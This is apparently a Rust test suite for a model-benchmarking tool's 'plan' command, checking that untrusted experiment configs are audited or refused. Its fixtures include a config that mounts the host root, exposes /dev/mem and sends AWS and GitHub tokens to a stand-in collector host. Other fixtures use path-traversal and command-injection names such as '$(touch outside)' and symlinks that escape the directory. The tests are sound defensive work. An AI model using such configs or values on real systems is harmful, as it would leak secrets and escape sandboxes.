//! An experiment of somebody one does not know: planning it does nothing, and says everything that running it would reach
//! outside of its directory.

mod support;

use std::collections::BTreeSet;
use std::os::unix::fs::symlink;

use serde_json::Value as Json;
use support::{FAST, Sandbox, text};

/// `kind: what` of everything that is reached.
fn reach(plan: &Json) -> BTreeSet<String> {
    let entries = plan["reach"].as_array().expect("reach").iter();
    entries.map(|r| format!("{}: {}", text(&r["kind"]), text(&r["what"]))).collect()
}

const GREEDY: &str = r#"name = "greedy"
[defaults]
requests = 4
hardware = "cpu"
[[matrix]]
model = "org/m"
method = "hf"
engine = "vllm"
image = "evil:1"
tokens.output = 8
dataset = "innocent.jsonl"
env = { TOKEN = "${AWS_SECRET_ACCESS_KEY}" }
assets.tool = "../outside"
[matrix.container]
devices = [["/dev/mem"]]
ipc = "host"
mounts = [[{ source = "/", target = "/host" }, { source = "../outside", target = "/o", read_only = true }]]
[[matrix]]
model = "org/m"
method = "external"
engine = "vllm"
endpoint = "https://collector.example/${HOME}"
headers.authorization = "Bearer ${GITHUB_TOKEN}"
tls.ca = "/etc/ssl/private.pem"
tokens = { input = 8, output = 4 }
"#;

#[test]
fn plan_shows_everything_that_a_run_would_reach() {
    let s = Sandbox::new();
    s.write("x/e.toml", GREEDY);
    s.write("outside/secret.jsonl", "{\"prompt\": \"a\"}\n");
    symlink("../outside/secret.jsonl", s.path("x/innocent.jsonl")).unwrap();
    let before = s.tree("");
    let done = s.run("plan --json x/e.toml").success();
    let found = reach(&done.json());
    let outside = s.path("outside").canonicalize().unwrap();
    let outside = outside.display();
    for expected in [
        "mount: / → /host".to_string(),
        "mount: ../outside → /o, read-only".into(),
        "device: /dev/mem".into(),
        "share: memory between processes (ipc = \"host\")".into(),
        format!("read: {outside}, the asset `tool`, mounted read-only"),
        format!("read: {outside}/secret.jsonl, `dataset`"),
        "read: /etc/ssl/private.pem, `tls.ca`".into(),
        "variable: AWS_SECRET_ACCESS_KEY, as TOKEN of a container".into(),
        "variable: HF_TOKEN, where it is set, as HF_TOKEN of a container".into(),
        "variable: HOME, in `endpoint`".into(),
        "variable: GITHUB_TOKEN, in the header authorization".into(),
        "server: https://collector.example/${HOME}".into(),
    ] {
        assert!(found.contains(&expected), "{expected} is not in {found:#?}");
    }
    // A person sees the same, and planning has left nothing.
    let shown = s.run("plan x/e.toml").success().stdout;
    for entry in done.json()["reach"].as_array().unwrap() {
        assert!(shown.contains(&text(&entry["what"])), "{entry} is not shown:\n{shown}");
    }
    assert_eq!(s.tree(""), before, "planning writes nothing");
}

#[test]
fn what_stays_in_its_directory_reaches_nothing() {
    let s = Sandbox::new();
    s.write("e.toml", format!("[defaults]\n{FAST}\n[[matrix]]\nmodel = \"org/m\"\nmethod = \"sim\"\nengine = \"vllm\"\ntokens = {{ input = 8, output = 4 }}\nrequests = 4\n"));
    assert_eq!(reach(&s.run("plan --json e.toml").success().json()), BTreeSet::new());
}

/// Names become parts of paths only when nothing in them can leave a directory.
#[test]
fn names_cannot_leave_the_artifacts() {
    let s = Sandbox::new();
    s.mkdir("work");
    let models = [
        "../../../../outside",
        "/etc/passwd",
        "..",
        ".",
        "a/../../b",
        "x\\u0000y",
        "a\\nb",
        "~root/x",
        "-rf",
        "$(touch outside)",
    ];
    let list = models.map(|m| format!("\"{m}\"")).join(", ");
    let stack = format!(
        "method = \"sim\"\nengine = \"vllm\"\n{FAST}\ntokens = {{ input = 8, output = 4 }}\nrequests = 2\nwarmup = 0\n"
    );
    s.write("work/e.toml", format!("name = \"e\"\ntags = [\"../../t\"]\n[[matrix]]\nmodel = [{list}]\n{stack}"));
    let done = s.run("run work/e.toml --artifacts work/artifacts");
    // A name that no path can hold is refused before anything is written; the others are measured.
    if done.code == Some(3) {
        let good = models.iter().filter(|m| !m.contains("\\u0000") && !m.contains("\\n")).map(|m| format!("\"{m}\""));
        let list = good.collect::<Vec<_>>().join(", ");
        s.write("work/e.toml", format!("name = \"e\"\ntags = [\"../../t\"]\n[[matrix]]\nmodel = [{list}]\n{stack}"));
        s.run("run work/e.toml --artifacts work/artifacts").success();
    }
    let allowed = |f: &String| f.starts_with("work/artifacts/") || f == "work/e.toml" || f.starts_with(".cache/");
    let strays: Vec<String> = s.tree("").into_iter().filter(|f| !allowed(f)).collect();
    assert_eq!(strays, Vec::<String>::new());
    assert!(s.results("work/artifacts").len() >= 8);
    for name in ["../x", "a/b", "", "x\\u0000"] {
        s.write("work/n.toml", format!("name = \"{name}\"\n[[matrix]]\nmodel = \"m\"\n{stack}"));
        s.run("plan work/n.toml").exit(3);
    }
}

#[test]
fn a_template_that_is_a_link_out_of_its_directory_is_refused() {
    let s = Sandbox::new();
    s.write("secret", "password = 1\n");
    s.mkdir("x/templates/hf");
    symlink("../../../secret", s.path("x/templates/hf/vllm.toml.j2")).unwrap();
    s.write(
        "x/e.toml",
        "[[matrix]]\nmodel = \"m\"\nmethod = \"hf\"\nengine = \"vllm\"\ntokens = { input = 8, output = 4 }\n",
    );
    let done = s.run("plan x/e.toml").exit(3);
    assert!(
        done.stderr.contains("template_outside") || done.stderr.contains("is a link that leads out of"),
        "{}",
        done.stderr
    );
    assert!(!done.stderr.contains("password"), "{}", done.stderr);
}

/// Files that do not end, or that lead back to themselves, are errors and no hang.
#[test]
fn endless_files_are_refused() {
    let s = Sandbox::new();
    let cell = |rest: &str| format!("[[matrix]]\nmodel = \"m\"\nmethod = \"sim\"\nengine = \"vllm\"\n{rest}\n");
    s.write("d.toml", cell("tokens.output = 4\ndataset = \"/dev/zero\""));
    s.run("plan d.toml").exit(3).says(&["/dev/zero", "neither a file nor a directory"]);
    s.mkdir("loop/a");
    symlink("..", s.path("loop/a/b")).unwrap();
    symlink("..", s.path("loop/a/c")).unwrap();
    s.write("a.toml", cell("tokens = { input = 8, output = 4 }\nassets.x = \"loop\"").replace("\"sim\"", "\"hf\""));
    s.run("plan a.toml").exit(3).says(&["loop"]);
    symlink("/dev/zero", s.path("z.toml")).unwrap();
    s.run("plan z.toml").exit(3).says(&["which is the limit"]);
}
